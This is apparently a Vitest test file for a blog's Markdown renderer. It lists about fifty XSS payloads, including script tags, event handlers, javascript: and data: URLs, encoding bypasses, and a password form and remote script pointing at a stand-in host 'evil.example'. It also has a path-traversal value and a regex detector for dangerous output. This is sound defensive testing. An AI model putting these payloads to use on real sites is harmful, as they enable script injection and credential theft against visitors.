import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render-markdown';

const ownImage = '/images/0123456789abcdef0123456789abcdef-800.jpg';

/** Markdown an attacker (or a careless paste) could put in a post. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/images/0123456789abcdef0123456789abcdef-800.jpg" onload="alert(1)">',
  '<body onload=alert(1)>',
  '<div onclick="alert(1)">click</div>',
  '<a href="#" onmouseover="alert(1)">hover</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](%6Aavascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/track.gif)',
  '![x](//evil.example/track.gif)',
  '![x](/art/blog/featured.svg)',
  '![x](/images/../gateway.db)',
  '![x](javascript:alert(1))',
  '<svg onload=alert(1)><circle r="10"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!-- <script>alert(1)</script> -->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="evil.swf"></object>',
  '<embed src="evil.swf">',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<a href="https://evil.example" target="_blank">tab</a>',
  '[nested **bold <script>alert(1)</script>**](https://example.com)',
  '> quote <img src=x onerror=alert(1)>\n> > deeper <script>alert(2)</script>',
  '- item <b onmouseover=alert(1)>x</b>\n  - nested [x](javascript:alert(1))',
  '`<script>alert(1)</script>` and\n\n```html\n<script>alert(1)</script>\n```',
  '| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '[x](<javascript:alert(1)>)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  'https://evil.example/<script>alert(1)</script>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '\u0000<script>alert(1)</script>',
];

/** What must never reach a visitor's page, whatever the input. */
function harmful(html: string): string[] {
  const found: string[] = [];
  const tags = [...html.matchAll(/<\s*([a-z0-9]+)([^>]*)>/gi)];
  for (const [tag, name, attributes] of tags) {
    if (
      /^(script|svg|math|iframe|object|embed|form|input|style|link|meta|base|details|video|source|noscript|body|div|b)$/i.test(
        name,
      )
    )
      found.push(tag);
    if (/\son\w+\s*=/i.test(attributes)) found.push(tag);
    if (/style\s*=/i.test(attributes) && !/^\s*style="text-align:(left|right|center)"$/.test(attributes))
      found.push(tag);
    const url = /\s(?:href|src)="([^"]*)"/i.exec(attributes)?.[1];
    if (
      url &&
      /^\s*(javascript|vbscript|data|file):/i.test([...url.replace(/&#?\w+;/g, '')].filter((c) => c > ' ').join(''))
    )
      found.push(tag);
    if (/^img$/i.test(name) && !/\ssrc="\/images\/[0-9a-f]{32}-\d+\.(avif|webp|jpg|png)"/.test(attributes))
      found.push(tag);
    if (/^a$/i.test(name) && /href="https?:/i.test(attributes) && !/rel="noopener"/.test(attributes)) found.push(tag);
  }
  if (html.includes('<!--')) found.push('comment');
  return found;
}

describe('post Markdown', () => {
  it.each(hostile)('renders %j harmless', (source) => {
    const html = renderMarkdown(source);
    expect(harmful(html)).toEqual([]);
  });

  it('has at least 40 hostile cases', () => expect(hostile.length).toBeGreaterThanOrEqual(40));

  it('keeps what writers use: headings, emphasis, lists, quotes, code, tables, own images, links', () => {
    const html = renderMarkdown(
      [
        '# Big title',
        '## Section',
        'Some *emphasis*, **strong** and `code`.',
        '- one\n- two',
        '> a quote',
        `![A class in Biratnagar](${ownImage})`,
        '[Our services](/services) and [a partner](https://example.com/page).',
      ].join('\n\n'),
      { image: () => ({ id: 'x', width: 800, height: 600, widths: [800], fallback: 'jpg' }) },
    );
    expect(html).toContain('<h2>Big title</h2>');
    expect(html).toContain('<h2>Section</h2>');
    expect(html).toContain('<em>emphasis</em>');
    expect(html).toContain('<strong>strong</strong>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain(
      `<img src="${ownImage}" alt="A class in Biratnagar" loading="lazy" decoding="async" width="800" height="600" />`,
    );
    expect(html).toContain('<a href="/services">Our services</a>');
    expect(html).toContain('<a href="https://example.com/page" rel="noopener">a partner</a>');
  });

  it('shows pasted HTML as text, so nothing typed is lost', () => {
    expect(renderMarkdown('Use <b>bold</b> here')).toBe('<p>Use &lt;b&gt;bold&lt;/b&gt; here</p>\n');
  });
});
